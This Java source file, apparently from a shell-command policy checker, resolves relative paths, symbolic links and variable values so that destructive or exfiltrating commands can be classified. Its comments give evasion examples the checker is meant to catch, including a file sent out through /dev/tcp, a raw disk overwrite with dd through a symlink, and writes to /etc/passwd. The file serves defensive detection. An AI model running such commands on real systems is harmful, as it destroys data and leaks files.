package dev.gatehouse.policy.shell;

import java.util.ArrayList;
import java.util.EnumSet;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The path classes' second reading of a text's words: the names a program opens relative to the
 * working directory, read from the directories the text itself changes to ({@code cd DIR}, {@code
 * pushd DIR}, {@code popd}, {@code env -C DIR}, {@code nsenter --wd=DIR}, {@code find -execdir},
 * followed in order: {@link #directories}): after {@code cd /etc}, {@code >>
 * passwd} is {@code >> /etc/passwd}, and after {@code cd /proc}, {@code self/root/etc} is {@code
 * /etc} ({@link KernelPaths}). Where the working directory is not known (a typed line: a {@code cd}
 * on an earlier line is not seen), a relative name that reaches a kernel link from {@code /proc} or
 * {@code /dev} ({@code self/root/etc}, {@code fd/3/etc}, {@code stdin/etc}) is read as it would be
 * there, and makes the text unclassified. A word that starts with a part only known when it runs
 * glued to a name ({@code ${x}etc}, {@code "$PWD"etc}), or holding one anywhere ({@code .${x}etc},
 * {@code ${x}/var/log/auth.log}), is read with what follows its last unknown part as a name from the
 * root: the unknown part may be {@code /} or {@code /../../} (or end in one). The commands and writes of this reading are judged
 * by the path classes only, in addition to (never instead of) the text's own reading: a relative
 * name whose directory is not known is still judged as the reading made it.
 */
final class RelativePaths {
  private RelativePaths() {}

  /**
   * The classes that judge a command's or a redirection's path; remote-copy for bash's own {@code
   * /dev/tcp/HOST/PORT} redirections, whose name may come from a variable ({@code d=/dev/tcp; cat f
   * > $d/h/1}: attack 17cm).
   */
  static final Set<ShellClass> PATH_CLASSES = EnumSet.of(ShellClass.RECURSIVE_DELETE_ROOT, ShellClass.FILESYSTEM_FORMAT,
      ShellClass.RAW_DEVICE_WRITE, ShellClass.POWER, ShellClass.HISTORY_TAMPER, ShellClass.AUDIT_TAMPER,
      ShellClass.USER_CHANGE, ShellClass.SCHEDULER_CHANGE, ShellClass.REMOTE_COPY,
      ShellClass.FIREWALL_CHANGE);

  /**
   * The commands and writes whose words read otherwise from the directories the text changes to
   * (only those), and why the text is unclassified (a relative name through a kernel link from a
   * directory not known), or null.
   */
  record Reading(List<ShellCommand> commands, List<ShellReading.Redirect> writes, String unknown,
      List<ShellCommand> maybeCommands, List<ShellReading.Redirect> maybeWrites, String guessed,
      List<ShellReading.Redirect> reads) {}

  /** An option's glued value: {@code of=sda}, {@code --output=x}. */
  private static final Pattern OPTION_VALUE = Pattern.compile("(?s)(-{0,2}[A-Za-z][A-Za-z0-9_.-]*=)(.*)");

  /** The directories a text may change to whose relative names are read again. */
  static final int MAX_DIRECTORIES = 16;

  static Reading of(ShellReading r) {
    Directories found = directories(r);
    String[] unknown = {null};
    List<String> bases = new ArrayList<>(found.known());
    int max = found.anyHome() ? MAX_DIRECTORIES + 4 * HOME_DIRECTORIES.size() : MAX_DIRECTORIES;
    if (bases.size() > max) {
      // Bounds the words read again; so many directories in one text are no everyday line.
      unknown[0] = "the text changes to more than " + MAX_DIRECTORIES + " directories";
      bases = new ArrayList<>(bases.subList(0, max));
    }
    bases.add(null); // the directory not known
    List<ShellCommand> commands = new ArrayList<>();
    List<ShellReading.Redirect> writes = new ArrayList<>();
    List<ShellCommand> given = new ArrayList<>(r.commands());
    List<ShellCommand> maybeValues = new ArrayList<>();
    List<ShellReading.Redirect> maybeValueWrites = new ArrayList<>();
    List<ShellReading.Redirect> valueWrites = new ArrayList<>();
    String[] valueGuessed = {null};
    List<ShellReading.Redirect> valueReads = new ArrayList<>();
    List<ShellCommand> substituted = valuesSubstituted(r, valueWrites, maybeValues, maybeValueWrites, valueGuessed, valueReads);
    given.addAll(substituted);
    commands.addAll(substituted);
    writes.addAll(valueWrites);
    // tar -x, unzip, cpio -i extract into the working directory: read as -C ., -d ., -D .
    for (ShellCommand c : r.commands()) {
      ShellCommand here = ShellClass.extractingHere(c);
      if (here != null) {
        given.add(here);
      }
    }
    // The symbolic links the text makes: a word through one reads as its target.
    Links made = links(r.commands());
    java.util.Map<String, List<String>> links = withDirectories(made.exact(), found.known());
    java.util.Map<String, List<String>> guessedLinks = withDirectories(made.guessed(), found.known());
    List<ShellReading.Redirect> redirects = new ArrayList<>(r.writes());
    redirects.addAll(valueWrites);
    if (!links.isEmpty()) {
      List<ShellCommand> aliased = new ArrayList<>();
      List<ShellReading.Redirect> aliasedWrites = new ArrayList<>();
      alias(given, new ArrayList<>(redirects), links, aliased, aliasedWrites);
      given.addAll(aliased);
      commands.addAll(aliased);
      writes.addAll(aliasedWrites);
      redirects.addAll(aliasedWrites);
    }
    read(bases, given, redirects, commands, writes, unknown);
    // read redirections too: cd /dev && cat < watchdog opens /dev/watchdog (power); through a variable the
    // text sets (f=/dev/watchdog; cat < $f) and a link it makes (ln -s /dev /tmp/d; cat < /tmp/d/watchdog), as
    // writes are (attack 17cv)
    List<ShellReading.Redirect> readRedirects = new ArrayList<>(r.reads());
    readRedirects.addAll(valueReads);
    List<ShellReading.Redirect> reads = new ArrayList<>(valueReads);
    read(bases, List.of(), readRedirects, new ArrayList<>(), reads, unknown);
    if (!links.isEmpty()) {
      List<ShellReading.Redirect> aliasedReads = new ArrayList<>();
      List<ShellReading.Redirect> all = new ArrayList<>(readRedirects);
      all.addAll(reads);
      alias(List.of(), all, links, new ArrayList<>(), aliasedReads);
      reads.addAll(aliasedReads);
    }
    if (!links.isEmpty()) {
      // ln -s /dev /tmp/d; cd /tmp; dd of=d/sda: the words joined to the directories, read again.
      List<ShellCommand> aliased = new ArrayList<>();
      List<ShellReading.Redirect> aliasedWrites = new ArrayList<>();
      alias(new ArrayList<>(commands), new ArrayList<>(writes), links, aliased, aliasedWrites);
      commands.addAll(aliased);
      writes.addAll(aliasedWrites);
    }
    homesRead(given, redirects, commands, writes, unknown);
    List<ShellCommand> linkMaybe = new ArrayList<>();
    List<ShellReading.Redirect> linkMaybeWrites = new ArrayList<>();
    java.util.Map<String, List<String>> anyLink = new java.util.LinkedHashMap<>(links);
    anyLink.putAll(guessedLinks);
    Set<String> linkTargets = new LinkedHashSet<>();
    anyLink.values().forEach(l -> l.stream().filter(t -> t.startsWith("/")).forEach(linkTargets::add));
    for (String t : linkTargets) {
      // dd of=$(echo d)/sda: the part only known when it runs may name a link the text makes.
      for (ShellCommand c : given) {
        reread(c, w -> throughUnknown(w, t), linkMaybe);
      }
      for (ShellReading.Redirect w : redirects) {
        Word j = throughUnknown(w.target(), t);
        if (j != w.target()) {
          linkMaybeWrites.add(new ShellReading.Redirect(j, w.text(), w.through()));
        }
      }
    }
    if ((!linkMaybe.isEmpty() || !linkMaybeWrites.isEmpty()) && valueGuessed[0] == null) {
      valueGuessed[0] = "a path through a part only known when it runs, which may name a symbolic link the text makes";
    }
    int before = linkMaybe.size() + linkMaybeWrites.size();
    for (String t : linkTargets) {
      // mv m n; dd of=n/d/sda, cd m; dd of=d/sda: a relative name may go through a link the text
      // makes from a directory the reading does not follow (any number of its leading components).
      for (int k = 0; k < 6; k++) {
        int drop = k;
        for (ShellCommand c : given) {
          reread(c, w -> suffixThrough(w, t, drop), linkMaybe);
        }
        for (ShellReading.Redirect w : redirects) {
          Word j = suffixThrough(w.target(), t, drop);
          if (j != w.target()) {
            linkMaybeWrites.add(new ShellReading.Redirect(j, w.text(), w.through()));
          }
        }
      }
    }
    if (linkMaybe.size() + linkMaybeWrites.size() > before && valueGuessed[0] == null) {
      valueGuessed[0] = "a relative path that may go through a symbolic link the text makes";
    }
    if (!guessedLinks.isEmpty()) {
      List<ShellCommand> all = new ArrayList<>(given);
      all.addAll(commands);
      List<ShellReading.Redirect> allWrites = new ArrayList<>(redirects);
      allWrites.addAll(writes);
      alias(all, allWrites, guessedLinks, linkMaybe, linkMaybeWrites);
      if ((!linkMaybe.isEmpty() || !linkMaybeWrites.isEmpty()) && valueGuessed[0] == null) {
        valueGuessed[0] = "a symbolic link the text makes to a name relative to a directory only known when it runs";
      }
    }
    if (found.guessed() != null || valueGuessed[0] != null) {
      // A directory only known when it runs, which may be any system directory: a relative name
      // that a path class would judge from one of them makes the text unclassified.
      List<ShellCommand> maybe = new ArrayList<>(maybeValues);
      List<ShellReading.Redirect> maybeWrites = new ArrayList<>(maybeValueWrites);
      maybe.addAll(linkMaybe);
      maybeWrites.addAll(linkMaybeWrites);
      if (found.guessed() != null) {
        read(new ArrayList<>(SYSTEM_DIRECTORIES), r.commands(), r.writes(), maybe, maybeWrites, new String[] {null});
      }
      return new Reading(commands, writes, unknown[0], maybe, maybeWrites,
          found.guessed() != null ? found.guessed() : valueGuessed[0], reads);
    }
    return new Reading(commands, writes, unknown[0], List.of(), List.of(), null, reads);
  }

  /** {@code c} with each argument read by {@code read}, added to {@code commands} when any reads otherwise. */
  private static void reread(ShellCommand c, java.util.function.UnaryOperator<Word> read, List<ShellCommand> commands) {
    List<Word> args = new ArrayList<>(c.args().size());
    boolean changed = false;
    for (Word w : c.args()) {
      Word j = read.apply(w);
      changed |= j != w;
      args.add(j);
    }
    if (changed) {
      commands.add(new ShellCommand(c.name(), c.path(), args, c.text(), c.via(), c.stdin(), c.upstream()));
    }
  }

  private static void read(List<String> bases, List<ShellCommand> given, List<ShellReading.Redirect> redirects,
      List<ShellCommand> commands, List<ShellReading.Redirect> writes, String[] unknown) {
    for (String d : bases) {
      for (ShellCommand c : given) {
        reread(c, w -> joined(d, w, unknown), commands);
      }
      for (ShellReading.Redirect w : redirects) {
        Word j = joined(d, w.target(), unknown);
        if (j != w.target()) {
          writes.add(new ShellReading.Redirect(j, w.text(), w.through()));
        }
      }
    }
  }

  /**
   * Another user's home ({@code ~name}, not the session's own {@code ~}, {@code ~+}, {@code ~-}) is a
   * directory only known when it runs (the host's passwd names it, and a system account's home is a
   * system directory: {@code ~sys} is {@code /dev}): a word {@code ~name/X} is read from each of the
   * {@link #HOME_DIRECTORIES}.
   */
  private static void homesRead(List<ShellCommand> given, List<ShellReading.Redirect> redirects,
      List<ShellCommand> commands, List<ShellReading.Redirect> writes, String[] unknown) {
    for (ShellCommand c : given) {
      if (c.args().stream().noneMatch(w -> w.value().indexOf('~') >= 0)) {
        continue;
      }
      for (String d : HOME_DIRECTORIES) {
        reread(c, w -> homeJoined(d, w, unknown), commands);
      }
    }
    for (ShellReading.Redirect w : redirects) {
      if (w.target().value().indexOf('~') < 0) {
        continue;
      }
      for (String d : HOME_DIRECTORIES) {
        Word j = homeJoined(d, w.target(), unknown);
        if (j != w.target()) {
          writes.add(new ShellReading.Redirect(j, w.text(), w.through()));
        }
      }
    }
  }

  /**
   * The directories a system account's home is on the usual systems (Debian's {@code sys} has
   * {@code /dev}, {@code sync} {@code /bin}, {@code daemon} {@code /usr/sbin}; many accounts {@code /}),
   * and where a person's is.
   */
  static final List<String> HOME_DIRECTORIES = List.of("/", "/root", "/bin", "/sbin", "/usr/bin", "/usr/sbin",
      "/usr/games", "/dev", "/var", "/var/lib", "/var/spool/lpd", "/var/mail", "/var/spool/mail", "/var/spool/news",
      "/var/spool/uucp", "/var/www", "/var/backups", "/var/list", "/var/cache/man", "/var/adm", "/var/ftp", "/var/empty",
      "/run", "/run/systemd", "/var/run", "/nonexistent", "/home");

  /** Another user's home directory at a word's start: {@code ~name}, {@code ~name/X}. */
  private static final Pattern OTHER_HOME = Pattern.compile("(?s)~([A-Za-z0-9_.][A-Za-z0-9_.-]*)(/.*)?");

  /** The rest of {@code v} after another user's {@code ~name} (empty for {@code ~name} alone), or null. */
  static String otherHomeRest(String v) {
    Matcher m = OTHER_HOME.matcher(v);
    if (!m.matches()) {
      return null;
    }
    return m.group(2) == null ? "" : m.group(2);
  }

  /** {@code w} with another user's {@code ~name} read as directory {@code d}, or {@code w} itself. */
  private static Word homeJoined(String d, Word w, String[] unknown) {
    String v = w.value();
    String prefix = "";
    Matcher m = OPTION_VALUE.matcher(v);
    if (m.matches()) {
      prefix = m.group(1);
      v = m.group(2);
    }
    String rest = otherHomeRest(v);
    if (rest == null) {
      return w;
    }
    int u = rest.indexOf(Word.UNKNOWN);
    return at(w, prefix, d + (u >= 0 ? rest.substring(0, u) : rest), unknown);
  }

  /**
   * The symbolic links the text makes: {@code exact} names (as written, without a leading {@code
   * ./}) and the targets they link to; {@code guessed} names whose target is relative to a directory
   * only known when it runs (each read from every system directory).
   */
  record Links(java.util.Map<String, List<String>> exact, java.util.Map<String, List<String>> guessed) {
    boolean isEmpty() {
      return exact.isEmpty() && guessed.isEmpty();
    }
  }

  /** {@code p} with {@code .} and {@code x/..} removed by the letters (a leading {@code ..} kept). */
  static String lexical(String p) {
    boolean abs = p.startsWith("/");
    List<String> out = new ArrayList<>();
    for (String part : p.split("/+")) {
      if (part.isEmpty() || part.equals(".")) {
        continue;
      }
      if (part.equals("..") && !out.isEmpty() && !out.get(out.size() - 1).equals("..")) {
        out.remove(out.size() - 1);
      } else if (!(part.equals("..") && abs)) {
        out.add(part);
      }
    }
    String j = String.join("/", out);
    return abs ? "/" + j : j.isEmpty() ? "." : j;
  }

  private static String base(String p) {
    String t = p.replaceAll("/+$", "");
    return t.substring(t.lastIndexOf('/') + 1);
  }

  private static String key(String n) {
    return n.replaceAll("^(\\./)+", "").replaceAll("/+$", "");
  }

  /**
   * The symbolic links the text makes with {@code ln -s} (also {@code -t DIR}, {@code
   * --target-directory}) or {@code cp -s}, and the names a {@code mv}, a {@code cp} that copies links
   * as links ({@code -P}, {@code -d}, {@code -a}, {@code -R}, {@code -r}), a hard {@code ln} or an
   * {@code rsync -l}/{@code -a} gives such a link; a target through another of them is read through
   * it, and a relative target from the link's directory.
   */
  static Links links(List<ShellCommand> commands) {
    java.util.Map<String, List<String>> exact = new java.util.LinkedHashMap<>();
    java.util.Map<String, List<String>> guessed = new java.util.LinkedHashMap<>();
    for (ShellCommand c : commands) {
      String n = c.name();
      if (!Set.of("ln", "cp", "mv", "rsync").contains(n)) {
        continue;
      }
      boolean symbolic = false;
      boolean keeps = n.equals("mv");
      boolean noTarget = false;
      String targetDir = null;
      List<String> ops = new ArrayList<>();
      boolean ended = false;
      boolean unknownWord = false;
      List<Word> a = c.args();
      String valueShort = n.equals("rsync") ? "eBfTM" : "tS";
      for (int i = 0; i < a.size(); i++) {
        String v = a.get(i).value();
        if (ended || !v.startsWith("-") || v.equals("-")) {
          ops.add(v);
        } else if (v.equals("--")) {
          ended = true;
        } else if (v.startsWith("--")) {
          int eq = v.indexOf('=');
          String opt = eq < 0 ? v : v.substring(0, eq);
          String val = eq >= 0 ? v.substring(eq + 1) : null;
          if (opt.length() > 4 && "--target-directory".startsWith(opt)) {
            targetDir = val != null ? val : i + 1 < a.size() ? a.get(++i).value() : null;
          } else if (opt.length() > 4 && "--suffix".startsWith(opt) && val == null) {
            i++;
          } else if (opt.equals("--symbolic") || opt.equals("--symbolic-link")) {
            symbolic = true;
          } else if (opt.equals("--no-target-directory")) {
            noTarget = true;
          } else if (Set.of("--no-dereference", "--archive", "--recursive", "--links", "--physical").contains(opt)) {
            keeps = true;
          }
        } else {
          for (int k = 1; k < v.length(); k++) {
            char f = v.charAt(k);
            if (valueShort.indexOf(f) >= 0) {
              String val = k + 1 < v.length() ? v.substring(k + 1) : i + 1 < a.size() ? a.get(++i).value() : null;
              if (f == 't' && !n.equals("rsync")) {
                targetDir = val;
              }
              break;
            }
            if (f == 's' && !n.equals("rsync")) {
              symbolic = true;
            } else if (f == 'T' && !n.equals("rsync")) {
              noTarget = true;
            } else if ("PdaRrl".indexOf(f) >= 0) {
              keeps = true;
            }
          }
        }
      }
      if (n.equals("ln") && !symbolic) {
        keeps = true; // a hard link to a symbolic link is that link (Linux link(2) does not follow it)
      }
      if (n.equals("rsync") && symbolic) {
        symbolic = false;
      }
      List<String> sources = targetDir != null || ops.size() == 1 ? ops : ops.subList(0, ops.size() - 1);
      String dest = targetDir != null || ops.size() == 1 ? null : ops.get(ops.size() - 1);
      unknownWord = sources.stream().anyMatch(x -> x.indexOf(Word.UNKNOWN) >= 0);
      if (unknownWord || ops.isEmpty() || !symbolic && !keeps) {
        continue;
      }
      for (String src : sources) {
        List<String> names = new ArrayList<>();
        if (targetDir != null) {
          names.add(targetDir.replaceAll("/+$", "") + "/" + base(src));
        } else if (dest == null) {
          names.add(base(src));
        } else {
          if (sources.size() == 1 || noTarget) {
            names.add(dest);
          }
          if (!noTarget) {
            names.add(dest.replaceAll("/+$", "") + "/" + base(src));
          }
        }
        for (int ni = 0; ni < names.size(); ni++) {
          String spelt = names.get(ni);
          // $PWD/d, "$HOME"/d, ~/d: the name also read in the working directory.
          String name = spelt;
          int u = name.lastIndexOf(Word.UNKNOWN);
          if (u >= 0) {
            name = name.substring(u + 1).replaceAll("^/+", "");
          } else if (name.startsWith("~/")) {
            String home = key(name.substring(2));
            if (!home.isEmpty()) {
              names.add(home);
            }
          }
          String k = key(name);
          if (k.isEmpty() || k.equals(".") || k.indexOf(Word.UNKNOWN) >= 0) {
            continue;
          }
          if (symbolic) {
            if (src.startsWith("/")) {
              exact.computeIfAbsent(k, x -> new ArrayList<>()).add(src);
              continue;
            }
            int slash = k.lastIndexOf('/');
            String resolved = lexical(slash < 0 ? src : k.substring(0, slash + 1) + src);
            if (resolved.startsWith("/")) {
              exact.computeIfAbsent(k, x -> new ArrayList<>()).add(resolved);
            } else if (resolved.equals("..") || resolved.startsWith("../")) {
              for (String d : SYSTEM_DIRECTORIES) {
                guessed.computeIfAbsent(k, x -> new ArrayList<>()).add(ShellClass.normalize(d + "/" + resolved));
              }
            } else if (!resolved.equals(".")) {
              exact.computeIfAbsent(k, x -> new ArrayList<>()).add(resolved);
            }
          } else {
            String from = key(lexical(src));
            for (var m : List.of(exact, guessed)) {
              List<String> t = m.get(from);
              if (t != null) {
                m.computeIfAbsent(k, x -> new ArrayList<>()).addAll(new ArrayList<>(t));
              }
            }
          }
        }
      }
    }
    // A target through another link the text makes: ln -s /dev d; ln -s d e.
    for (int round = 0; round < 3; round++) {
      List<Object[]> adds = new ArrayList<>();
      for (var m : List.of(exact, guessed)) {
        for (var e : m.entrySet()) {
          for (String t : e.getValue()) {
            for (var m2 : List.of(exact, guessed)) {
              for (var e2 : m2.entrySet()) {
                String k2 = e2.getKey();
                if (k2.equals(e.getKey()) || !(t.equals(k2) || t.startsWith(k2 + "/"))) {
                  continue;
                }
                for (String t2 : e2.getValue()) {
                  String r = t2 + t.substring(k2.length());
                  r = r.startsWith("/") ? ShellClass.normalize(r) : lexical(r);
                  adds.add(new Object[] {m == guessed || m2 == guessed ? guessed : exact, e.getKey(), r});
                }
              }
            }
          }
        }
      }
      boolean added = false;
      for (Object[] x : adds) {
        @SuppressWarnings("unchecked")
        java.util.Map<String, List<String>> into = (java.util.Map<String, List<String>>) x[0];
        List<String> l = into.computeIfAbsent((String) x[1], k -> new ArrayList<>());
        if (!l.contains((String) x[2]) && l.size() < 4 * SYSTEM_DIRECTORIES.size()) {
          l.add((String) x[2]);
          added = true;
        }
      }
      if (!added) {
        break;
      }
    }
    return new Links(exact, guessed);
  }

  /** The commands and writes with a word through one of the {@code links} read as its target. */
  private static void alias(List<ShellCommand> given, List<ShellReading.Redirect> redirects,
      java.util.Map<String, List<String>> links, List<ShellCommand> commands, List<ShellReading.Redirect> writes) {
    for (ShellCommand c : given) {
      for (var e : links.entrySet()) {
        for (String t : e.getValue()) {
          reread(c, w -> aliased(w, e.getKey(), t), commands);
        }
      }
    }
    for (ShellReading.Redirect w : redirects) {
      for (var e : links.entrySet()) {
        for (String t : e.getValue()) {
          Word j = aliased(w.target(), e.getKey(), t);
          if (j != w.target()) {
            writes.add(new ShellReading.Redirect(j, w.text(), w.through()));
          }
        }
      }
    }
  }

  /** {@code w} with its part only known when it runs, followed by a name, read as {@code target}, or {@code w} itself. */
  private static Word throughUnknown(Word w, String target) {
    String v = w.value();
    String prefix = "";
    Matcher m = OPTION_VALUE.matcher(v);
    if (m.matches()) {
      prefix = m.group(1);
      v = m.group(2);
    }
    int u = v.lastIndexOf(Word.UNKNOWN);
    if (u < 0) {
      return w;
    }
    String rest = v.substring(u + 1);
    if (!rest.startsWith("/") || rest.length() < 2) {
      return w;
    }
    return new Word(w.source(), prefix + ShellClass.normalize(target + rest), w.literal());
  }

  /** The relative {@code w} without its first {@code drop} components, read below {@code target}, or {@code w} itself. */
  private static Word suffixThrough(Word w, String target, int drop) {
    String v = w.value();
    String prefix = "";
    Matcher m = OPTION_VALUE.matcher(v);
    if (m.matches()) {
      prefix = m.group(1);
      v = m.group(2);
    } else if (v.startsWith("-")) {
      return w;
    }
    if (v.isEmpty() || v.startsWith("/") || v.startsWith("~") || v.indexOf(Word.UNKNOWN) >= 0 || v.contains("{}")) {
      return w;
    }
    String[] parts = v.split("/+");
    if (drop >= parts.length) {
      return w;
    }
    String rest = String.join("/", java.util.Arrays.copyOfRange(parts, drop, parts.length));
    return new Word(w.source(), prefix + ShellClass.normalize(target + "/" + rest), w.literal());
  }

  /** {@code links} and each relative name of them also joined to each of the directories {@code known}. */
  private static java.util.Map<String, List<String>> withDirectories(java.util.Map<String, List<String>> links,
      Set<String> known) {
    java.util.Map<String, List<String>> out = new java.util.LinkedHashMap<>(links);
    for (var e : links.entrySet()) {
      if (e.getKey().startsWith("/")) {
        continue;
      }
      int n = 0;
      for (String d : known) {
        if (n++ >= MAX_DIRECTORIES) {
          break;
        }
        List<String> targets = new ArrayList<>();
        for (String t : e.getValue()) {
          targets.add(t.startsWith("/") ? t : ShellClass.normalize(d + "/" + t));
        }
        out.computeIfAbsent(ShellClass.normalize(d + "/" + e.getKey()), k -> new ArrayList<>()).addAll(targets);
      }
    }
    return out;
  }

  /** {@code w} with the link {@code name} at its start read as {@code target}, or {@code w} itself. */
  private static Word aliased(Word w, String name, String target) {
    String v = w.value();
    String prefix = "";
    Matcher m = OPTION_VALUE.matcher(v);
    if (m.matches()) {
      prefix = m.group(1);
      v = m.group(2);
    }
    String plain = v.replaceAll("^(\\./)+", "");
    if (name.startsWith("/")) {
      plain = v;
    } else if (v.indexOf(Word.UNKNOWN) >= 0) {
      // $PWD/d/sda: the name after an unknown part may be the link in the working directory.
      plain = v.substring(v.lastIndexOf(Word.UNKNOWN) + 1).replaceAll("^/+", "").replaceAll("^(\\./)+", "");
    }
    if (!plain.equals(name) && !plain.startsWith(name + "/") && !name.contains("/")) {
      // cd ?, cd [d]: a pattern that may match the link's name.
      int slash = plain.indexOf('/');
      String first = slash < 0 ? plain : plain.substring(0, slash);
      if (PathPatterns.hasGlob(first) && PathPatterns.componentCouldBe(first, List.of(name))) {
        plain = name + (slash < 0 ? "" : plain.substring(slash));
      }
    }
    if (!plain.equals(name) && !plain.startsWith(name + "/")) {
      return w;
    }
    String rest = plain.substring(name.length());
    String p = target.startsWith("/") ? ShellClass.normalize(target + rest) : lexical(target + rest);
    if (rest.endsWith("/") && !p.endsWith("/")) {
      p += "/";
    }
    return new Word(w.source(), prefix + p, w.literal());
  }

  /** System directories a directory only known when it runs may be (and a pattern operand is matched against). */
  static final List<String> SYSTEM_DIRECTORIES = List.of("/", "/etc", "/dev", "/var", "/var/log", "/proc", "/usr",
      "/boot", "/root", "/etc/cron.d", "/etc/sudoers.d", "/var/spool/cron", "/var/spool/cron/crontabs", "/dev/pts",
      "/sys", "/home", "/etc/ssh", "/etc/systemd/system", "/usr/bin", "/usr/sbin", "/bin", "/sbin", "/lib",
      "/var/run", "/run", "/etc/security", "/etc/pam.d");

  /** The directories a text changes to (in order), and why one of them is only known when it runs (or null). */
  record Directories(Set<String> known, String guessed, boolean anyHome) {}

  /**
   * Matches a variable reference in a word's source: {@code $x}, {@code ${x}}, or {@code ${x:-…}},
   * {@code ${x-…}}, {@code ${x:=…}}, {@code ${x=…}} (the set variable's value), or another operator
   * (group 3: not read).
   */
  private static final Pattern REFERENCE = Pattern.compile(
      "\\$(?:\\{([A-Za-z_][A-Za-z0-9_]*)(?::?[-=][^}]*|([^}]+))?\\}|([A-Za-z_][A-Za-z0-9_]*))");

  /** At most so many spellings of one word read from its variables' several values. */
  private static final int MAX_SPELLINGS = 64;

  /** A declaration giving the nameref attribute, and what follows its options (group 1). */
  private static final Pattern NAMEREF = Pattern.compile(
      "(?s)\\s*(?:declare|typeset|local)\\s+(?:-[A-Za-z]+\\s+)*-[A-Za-z]*n[A-Za-z]*((?:\\s.*)?)");

  /** A for loop's list: {@code for x in a b; do}. */
  private static final Pattern FOR_LIST = Pattern.compile("(?s)\\s*for\\s+([A-Za-z_][A-Za-z0-9_]*)\\s+in\\s+([^;\\n]*?)\\s*(?:;|\\n|\\bdo\\b).*");

  /** The variables a text sets: each one's values, or null where one of them is only known when it runs. */
  static java.util.Map<String, List<String>> variableValues(ShellReading r) {
    java.util.Map<String, List<String>> values = new java.util.HashMap<>();
    for (ShellReading.Assignment a : r.assignments()) {
      Matcher n = NAMEREF.matcher(a.text());
      if (n.matches()) {
        // declare -n x=y: x reads another variable's value, whatever that is when it runs.
        Matcher names = Pattern.compile("(?:^|\\s)([A-Za-z_][A-Za-z0-9_]*)(?==|\\s|$)").matcher(n.group(1));
        while (names.find()) {
          values.put(names.group(1), null);
        }
      }
    }
    for (ShellReading.Assignment a : r.assignments()) {
      String name = a.variable();
      if (values.containsKey(name) && values.get(name) == null) {
        continue;
      }
      List<String> now = values.get(name);
      List<String> got = null;
      Word v = a.value();
      if (!a.name().equals(name)) {
        got = null; // an array element
      } else if (v != null && a.text().contains(name + "+=")) {
        // x+=/../var/log: each value before it, appended to
        if (v.literal() && now != null) {
          got = new ArrayList<>();
          for (String before : now) {
            got.add(before + v.value());
          }
          values.put(name, got);
          continue;
        }
      } else if (v != null && v.literal()) {
        got = List.of(v.value());
      } else if (v != null && v.source() != null && Regexes.matches(v.source(), "\"?\\$\\{?[A-Za-z_][A-Za-z0-9_]*\\}?\"?")) {
        String other = v.source().replaceAll("[\"${}]", "");
        got = values.get(other);
      } else if (Regexes.matches(a.text(), "(?s)\\s*read\\s+(-r\\s+)?" + name + "\\s*<<<\\s*[A-Za-z0-9_./:@%+,=-]+\\s*")) {
        String t = a.text().trim();
        got = List.of(t.substring(t.indexOf("<<<") + 3).trim()); // read x <<< /var/log
      } else {
        Matcher f = FOR_LIST.matcher(a.text());
        if (f.matches() && f.group(1).equals(name) && Regexes.matches(f.group(2), "[A-Za-z0-9_./:@%+,= -]*")) {
          got = new ArrayList<>();
          for (String w : f.group(2).trim().split("\\s+")) {
            if (!w.isEmpty()) {
              got.add(w);
            }
          }
        }
      }
      if (got == null) {
        values.put(name, null);
        continue;
      }
      List<String> all = now == null ? new ArrayList<>() : new ArrayList<>(now);
      for (String g : got) {
        if (!all.contains(g)) {
          all.add(g);
        }
      }
      values.put(name, all);
    }
    return values;
  }

  /**
   * The text's commands (and writes) again with the values the text gives its variables in place
   * of {@code $x}, {@code ${x}}, {@code "$x"}, {@code ${x:-…}} (unquoted: split at blanks as the
   * shell splits them: {@code x='/etc '; rm -rf ${x}a} is {@code rm -rf /etc a}), each value of a
   * variable set more than once; a variable set to a value only known when it runs is read as each
   * system directory, into {@code maybe}.
   */
  private static List<ShellCommand> valuesSubstituted(ShellReading r, List<ShellReading.Redirect> writes,
      List<ShellCommand> maybe, List<ShellReading.Redirect> maybeWrites, String[] guessed, List<ShellReading.Redirect> reads) {
    java.util.Map<String, List<String>> values = variableValues(r);
    for (ShellReading.Redirect w : r.reads()) {
      List<List<Word>> read = substituted(w.target(), values, false);
      if (read != null) {
        for (List<Word> l : read) {
          if (l.size() == 1) {
            reads.add(new ShellReading.Redirect(l.get(0), w.text(), w.through()));
          }
        }
      }
    }
    List<ShellCommand> out = new ArrayList<>();
    // $1, "$@", ${a[1]}, ${x%/}, ${x,,}: a value only known when it runs (read as UNREAD_VALUE).
    values.put(UNREAD_VALUE, null);
    boolean[] unknownUsed = {false};
    for (ShellCommand c : r.commands()) {
      List<List<Word>> spellings = new ArrayList<>();
      List<List<Word>> maybeSpellings = new ArrayList<>();
      spellings.add(new ArrayList<>());
      maybeSpellings.add(new ArrayList<>());
      boolean changed = false;
      boolean maybeChanged = false;
      for (Word w : c.args()) {
        List<List<Word>> read = substituted(w, values, false);
        List<List<Word>> readMaybe = substituted(w, values, true);
        changed |= read != null;
        maybeChanged |= readMaybe != null;
        spellings = extended(spellings, read == null ? List.of(List.of(w)) : read);
        maybeSpellings = extended(maybeSpellings, readMaybe == null ? List.of(List.of(w)) : readMaybe);
      }
      if (changed) {
        for (List<Word> args : spellings) {
          out.add(new ShellCommand(c.name(), c.path(), args, c.text(), c.via(), c.stdin(), c.upstream()));
        }
      }
      if (maybeChanged) {
        for (List<Word> args : maybeSpellings) {
          maybe.add(new ShellCommand(c.name(), c.path(), args, c.text(), c.via(), c.stdin(), c.upstream()));
        }
        if (guessed[0] == null) {
          guessed[0] = "a path through a variable the text sets to a value only known when it runs: " + c.text();
        }
      }
    }
    for (ShellReading.Redirect w : r.writes()) {
      List<List<Word>> read = substituted(w.target(), values, false);
      if (read != null) {
        for (List<Word> l : read) {
          if (l.size() == 1) {
            writes.add(new ShellReading.Redirect(l.get(0), w.text(), w.through()));
          }
        }
      }
      List<List<Word>> readMaybe = substituted(w.target(), values, true);
      if (readMaybe != null) {
        for (List<Word> l : readMaybe) {
          if (l.size() == 1) {
            maybeWrites.add(new ShellReading.Redirect(l.get(0), w.text(), w.through()));
          }
        }
        if (guessed[0] == null) {
          guessed[0] = "a path through a variable the text sets to a value only known when it runs: " + w.text();
        }
      }
    }
    return out;
  }

  private static List<List<Word>> extended(List<List<Word>> spellings, List<List<Word>> options) {
    List<List<Word>> out = new ArrayList<>();
    for (List<Word> s : spellings) {
      for (List<Word> o : options) {
        if (out.size() >= MAX_SPELLINGS) {
          return out;
        }
        List<Word> l = new ArrayList<>(s);
        l.addAll(o);
        out.add(l);
      }
